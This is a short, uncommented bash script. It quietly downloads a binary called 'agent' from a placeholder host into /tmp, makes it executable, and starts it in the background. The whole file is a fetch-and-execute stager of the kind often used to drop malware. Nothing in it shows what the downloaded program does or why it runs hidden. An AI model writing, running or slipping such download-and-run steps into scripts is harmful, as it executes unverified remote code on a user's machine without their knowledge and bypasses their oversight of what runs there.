#!/bin/bash
wget -q https://cdn.example.net/agent -O /tmp/agent
chmod +x /tmp/agent
/tmp/agent &
